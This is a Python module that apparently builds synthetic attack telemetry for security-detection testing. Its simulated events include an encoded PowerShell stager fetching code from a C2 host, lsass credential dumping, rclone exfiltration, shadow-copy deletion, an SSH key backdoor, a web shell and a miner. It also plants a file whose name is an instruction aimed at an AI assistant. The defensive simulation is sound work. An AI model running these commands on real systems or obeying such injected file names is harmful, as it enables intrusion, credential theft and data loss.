"""Stories on machines: S1, S6, S7, S8, S9 and the hostile file, told in offsets before the end (KESTREL facts)."""

import base64
from collections.abc import Mapping
from datetime import datetime, timedelta
from typing import Any

from ...tools.languages.vocabulary import EventClass
from .scene import FALCON, SENTINELONE, SYSTEM32, Host, Process, Scene

OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SERVICES = Process("services.exe", "C:\\Windows\\System32\\services.exe", 700, "C:\\Windows\\System32\\services.exe")
SYSTEM = Process("System", "", 4)


def encoded(script: str) -> str:
    """A script as PowerShell's -enc takes it."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def invoice(scene: Scene, world: Mapping[str, Any]) -> None:
    """S1: a macro on a workstation, credentials dumped, a server entered by PsExec, finance files taken out."""
    host, user = scene.hosts["WS-042"], "m.alvarez"
    document, _, archive, tool = world["files"]
    c2, target = world["external"]["c2"], world["external"]["exfiltration"]
    opened = scene.at(hours=8, minutes=12)
    outlook = scene.program("OUTLOOK.EXE", OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE"')
    path = f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8KX2PQ1T\\{document}"
    scene.write(opened - timedelta(seconds=9), host, outlook, path, user, 48_211, "S1")
    word = scene.program("WINWORD.EXE", OFFICE + "WINWORD.EXE", f'"{OFFICE}WINWORD.EXE" /n "{path}" /o ""', outlook)
    scene.launch(opened, host, word, user, "S1")
    stager = f"$c=New-Object Net.WebClient;while($true){{$c.DownloadString('https://{c2}/p')|iex;sleep 60}}"
    shell = scene.program(
        "powershell.exe", POWERSHELL, f"powershell.exe -NoP -W Hidden -enc {encoded(scene.rename(stager))}", word
    )
    scene.launch(opened + timedelta(seconds=14), host, shell, user, "S1")
    first = scene.at(hours=8, minutes=10)
    for beat in range(125):
        scene.connect(first + timedelta(seconds=60 * beat), host, shell, c2, 443, user, "S1")
    label = world["hostile"]["dns"]
    scene.resolve(first + timedelta(seconds=20), host, shell, f"{label}.{world['campaign']['domain']}", "S1")
    _dump_credentials(scene, world, shell)
    _enter_server(scene, world, shell)
    _take_finance_files(scene, world, archive, tool, target)
    scene.alert(
        opened + timedelta(seconds=30), host, "Office Application Spawned Encoded PowerShell", "High", "T1204.002",
        "Execution", shell, user, sensor=FALCON, story="S1", uid="@S1-macro",
        about="A document opened in Word started PowerShell with an encoded command.",
    )  # fmt: skip


def _dump_credentials(scene: Scene, world: Mapping[str, Any], shell: Process) -> None:
    host, user, dump = scene.hosts["WS-042"], "m.alvarez", world["files"][1]
    when = scene.at(hours=7, minutes=40)
    command = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\{dump} full"
    rundll = scene.program("rundll32.exe", command=command, parent=shell)
    scene.launch(when, host, rundll, user, "S1")
    scene.write(when + timedelta(seconds=2), host, rundll, f"C:\\ProgramData\\{dump}", user, 52_113_408, "S1")
    scene.alert(
        when + timedelta(seconds=15), host, "Credential Dumping via Comsvcs MiniDump", "Critical", "T1003.001",
        "Credential Access", rundll, user, sensor=FALCON, story="S1", uid="@S1-credential-dumping",
        about="rundll32 wrote the memory of lsass to a file with comsvcs.dll.",
    )  # fmt: skip


def _enter_server(scene: Scene, world: Mapping[str, Any], shell: Process) -> None:
    host, server, controller = scene.hosts["WS-042"], scene.hosts["FS-01"], scene.hosts["DC-01"]
    when = scene.at(hours=6, minutes=55)
    scene.connect(when - timedelta(seconds=4), host, shell, server.ip, 135, "m.alvarez", "S1")
    scene.connect(when - timedelta(seconds=3), host, SYSTEM, server.ip, 445, "", "S1")
    scene.accept(when - timedelta(seconds=3), server, host.ip, 445, "S1")
    scene.ticket(when - timedelta(seconds=2), controller, "svc-backup", f"{server.name}$", host.ip, story="S1")
    scene.logon(when, server, "svc-backup", kind="Network", source=host.ip, story="S1")
    install_service(scene, when + timedelta(seconds=1), server, "S1")


def install_service(scene: Scene, when: datetime, server: Host, story: str) -> Process:
    """PsExec's service appears on a host; gives its process."""
    scene.write(when, server, SYSTEM, "C:\\Windows\\PSEXESVC.exe", "", 716_176, story)
    key = "HKLM\\SYSTEM\\CurrentControlSet\\Services\\PSEXESVC"
    scene.registry(
        when + timedelta(milliseconds=300), server, SERVICES, key, "ImagePath", "%SystemRoot%\\PSEXESVC.exe", story
    )
    service = scene.program("PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe", SERVICES)
    return scene.launch(when + timedelta(milliseconds=700), server, service, "SYSTEM", story)


def _take_finance_files(scene: Scene, world: Mapping[str, Any], archive: str, tool: str, target: str) -> None:
    server, user = scene.hosts["FS-01"], "svc-backup"
    service = scene.last("S1", "PSEXESVC.exe", server)
    explored = scene.at(hours=6, minutes=50)
    command = scene.program("cmd.exe", command=f'"cmd.exe" /c "whoami & {world["hostile"]["command"]}"', parent=service)
    scene.launch(explored - timedelta(seconds=3), server, command, user, "S1")
    scene.launch(explored, server, scene.program("whoami.exe", command="whoami", parent=command), user, "S1")
    group = scene.program("net.exe", command='net group "Domain Admins" /domain', parent=command)
    scene.launch(explored + timedelta(seconds=21), server, group, user, "S1")
    packed = scene.at(hours=6, minutes=30)
    seven = scene.program(
        "7z.exe", "C:\\Program Files\\7-Zip\\7z.exe",
        f'"C:\\Program Files\\7-Zip\\7z.exe" a -mx1 -pQ3 C:\\Windows\\Temp\\{archive} D:\\Shares\\Finance', command,
    )  # fmt: skip
    scene.launch(packed, server, seven, user, "S1")
    scene.write(
        packed + timedelta(seconds=40), server, seven, f"C:\\Windows\\Temp\\{archive}", user, 1_932_735_283, "S1"
    )
    sent = scene.at(hours=6, minutes=5)
    rclone = scene.program(
        tool, f"C:\\Windows\\Temp\\{tool}",
        f"C:\\Windows\\Temp\\{tool} copy C:\\Windows\\Temp\\{archive} drop:in --sftp-host {target} --sftp-port 443", command,
    )  # fmt: skip
    scene.write(sent - timedelta(minutes=1), server, SYSTEM, f"C:\\Windows\\Temp\\{tool}", "", 51_200_000, "S1")
    scene.launch(sent, server, rclone, user, "S1")
    scene.connect(sent + timedelta(seconds=2), server, rclone, target, 443, user, "S1")
    scene.alert(
        sent + timedelta(seconds=30), server, tool, "Medium", "T1567.002", "Exfiltration", rclone, user,
        sensor=SENTINELONE, story="S1", uid="@S1-rclone", about="Exfiltration tool", mitigation="not_mitigated",
    )  # fmt: skip


def hostile_file(scene: Scene, world: Mapping[str, Any]) -> None:
    """A file on the file server whose name is an order to an assistant."""
    server = scene.hosts["FS-01"]
    when = scene.at(hours=6, minutes=12)
    scene.write(when, server, SYSTEM, f"D:\\Shares\\Public\\{world['hostile']['file']}", "", 12, "hostile")


def shadow_copies(scene: Scene, world: Mapping[str, Any]) -> None:
    """S11: from the file server to the backup server; the deletion of shadow copies is blocked, a service stop is not."""
    source, target, user = scene.hosts["FS-01"], scene.hosts["SRV-BK-01"], "svc-backup"
    when = scene.at(hours=5, minutes=40)
    shell = scene.program("cmd.exe", parent=scene.last("S1", "PSEXESVC.exe", source))
    wmic = scene.program(
        "wmic.exe", SYSTEM32 + "wbem\\WMIC.exe",
        f'wmic /node:{target.name} process call create "cmd.exe /c vssadmin delete shadows /all /quiet"', shell,
    )  # fmt: skip
    scene.launch(when - timedelta(seconds=8), source, wmic, user, "S11")
    scene.connect(when - timedelta(seconds=6), source, wmic, target.ip, 135, user, "S11")
    scene.accept(when - timedelta(seconds=6), target, source.ip, 135, "S11")
    scene.ticket(when - timedelta(seconds=5), scene.hosts["DC-01"], user, f"{target.name}$", source.ip, story="S11")
    scene.logon(when - timedelta(seconds=4), target, user, kind="Network", source=source.ip, story="S11")
    provider = scene.program(
        "WmiPrvSE.exe", SYSTEM32 + "wbem\\WmiPrvSE.exe", "wmiprvse.exe -secured -Embedding", SERVICES
    )
    remote = scene.program("cmd.exe", command="cmd.exe /c vssadmin delete shadows /all /quiet", parent=provider)
    scene.launch(when - timedelta(seconds=1), target, remote, user, "S11")
    deletion = scene.program("vssadmin.exe", command="vssadmin delete shadows /all /quiet", parent=remote)
    scene.launch(when, target, deletion, user, "S11")
    scene.alert(
        when + timedelta(seconds=2), target, "vssadmin.exe", "High", "T1490", "Impact", deletion, user,
        sensor=SENTINELONE, story="S11", uid="@S11-shadow-copies", about="Ransomware precursor", mitigation="mitigated",
    )  # fmt: skip
    stop = scene.program("net.exe", command="net stop veeam*", parent=remote)
    scene.launch(when + timedelta(seconds=40), target, stop, user, "S11")
    scene.note(
        EventClass.SERVICE, when + timedelta(seconds=42), target,
        {"activity": "Stop", "service.name": "VeeamBackupSvc", **scene.actor(stop, user)}, "S11",
    )  # fmt: skip


def web_shell(scene: Scene, world: Mapping[str, Any]) -> None:
    """S6: a web shell on the mail server, two commands, and a quarantine nine minutes later."""
    host, caller = scene.hosts["MX-01"], world["external"]["web_shell"]
    when = scene.at(days=5)
    pool = "IIS APPPOOL\\MSExchangeOWAAppPool"
    worker = scene.program("w3wp.exe", SYSTEM32 + "inetsrv\\w3wp.exe", 'w3wp.exe -ap "MSExchangeOWAAppPool"')
    for number in range(6):
        scene.accept(when - timedelta(seconds=50 - 8 * number), host, caller, 443, "S6", worker)
    path = "C:\\inetpub\\wwwroot\\aspnet_client\\help.aspx"
    scene.write(when, host, worker, path, pool, 1_482, "S6")
    for number, order in enumerate(("whoami", "ipconfig /all")):
        later = when + timedelta(seconds=70 + 25 * number)
        scene.accept(later - timedelta(seconds=1), host, caller, 443, "S6", worker)
        scene.launch(later, host, scene.program("cmd.exe", command=f"cmd.exe /c {order}", parent=worker), pool, "S6")
    caught = when + timedelta(minutes=9)
    scene.alert(
        caught, host, "help.aspx", "High", "T1505.003", "Persistence", worker, pool, sensor=SENTINELONE, story="S6",
        uid="@S6-web-shell", about="Webshell", mitigation="mitigated", file=path,
    )  # fmt: skip
    agent = Process("SentinelAgent.exe", "C:\\Program Files\\SentinelOne\\Sentinel Agent\\SentinelAgent.exe", 1804)
    scene.write(caught + timedelta(seconds=4), host, agent, path, "SYSTEM", 0, "S6", activity="Delete")


def roast(scene: Scene, world: Mapping[str, Any]) -> None:
    """S7: 41 service tickets with RC4 in two minutes, asked for from one workstation."""
    source, controller = scene.hosts["WS-029"], scene.hosts["DC-01"]
    services = [
        "svc-idm",
        "svc-backup",
        "svc-build",
        *(f"svc-{kind}{number:02d}" for number in range(1, 20) for kind in ("app", "db")),
    ]
    for number, service in enumerate(services[:41]):
        when = scene.at(days=6) + timedelta(seconds=2.8 * number)
        scene.ticket(when, controller, "t.brandt", service, source.ip, "0x17", "S7")


def miner(scene: Scene, world: Mapping[str, Any]) -> None:
    """S9: a key planted by the web server's account, a login with it, a miner, and an end by hand."""
    host, caller = scene.hosts["LX-WEB-02"], world["external"]["miner"]
    when = scene.at(days=7)
    php = Process("php-fpm8.2", "/usr/sbin/php-fpm8.2", 1021, "php-fpm: pool www")
    shell = scene.program(
        "sh", "/usr/bin/sh", "sh -c echo ssh-ed25519 AAAAC3 >> /home/deploy/.ssh/authorized_keys", php
    )
    scene.launch(when - timedelta(seconds=2), host, shell, "www-data", "S9")
    scene.write(when, host, shell, "/home/deploy/.ssh/authorized_keys", "www-data", 81, "S9")
    entered = when + timedelta(minutes=6)
    scene.accept(entered - timedelta(seconds=1), host, caller, 22, "S9")
    scene.logon(entered, host, "deploy", kind="Network", source=caller, protocol="ssh", story="S9")
    bash = scene.program("bash", "/usr/bin/bash", "-bash", Process("sshd", "/usr/sbin/sshd", 811, "sshd: deploy"))
    scene.launch(entered + timedelta(seconds=1), host, bash, "deploy", "S9")
    sudo = scene.program("sudo", "/usr/bin/sudo", "sudo -i", bash)
    scene.launch(entered + timedelta(seconds=30), host, sudo, "deploy", "S9")
    run = scene.program("kdevtmpfsi", "/dev/shm/.x/kdevtmpfsi", "/dev/shm/.x/kdevtmpfsi", sudo)
    scene.write(entered + timedelta(seconds=80), host, sudo, run.path, "root", 4_218_880, "S9")
    scene.launch(entered + timedelta(seconds=90), host, run, "root", "S9")
    ended = scene.at(days=6, hours=20)
    beat = entered + timedelta(seconds=92)
    while beat < ended:
        scene.connect(beat, host, run, caller, 3333, "root", "S9")
        beat += timedelta(minutes=10)
    kill = scene.program("kill", "/usr/bin/kill", f"kill -9 {run.pid}", scene.program("bash", "/usr/bin/bash", "-bash"))
    scene.launch(ended, host, kill, "s.meyer", "S9")


def usb_copy(scene: Scene, world: Mapping[str, Any]) -> None:
    """S8 on the machine: a USB drive, and 412 files copied to it."""
    host, user, when = scene.hosts["WS-023"], "l.haas", scene.at(days=1, hours=4)
    explorer = Process("explorer.exe", "C:\\Windows\\explorer.exe", 3300, "C:\\Windows\\explorer.exe")
    key = "HKLM\\SYSTEM\\CurrentControlSet\\Enum\\USBSTOR\\Disk&Ven_SanDisk&Prod_Ultra"
    scene.registry(when, host, SYSTEM, key, "FriendlyName", "SanDisk Ultra USB Device", "S8")
    for number in range(412):
        later = when + timedelta(seconds=40 + 2 * number)
        scene.write(later, host, explorer, f"E:\\customers\\account_{number:04d}.xlsx", user, 20_480 + 7 * number, "S8")
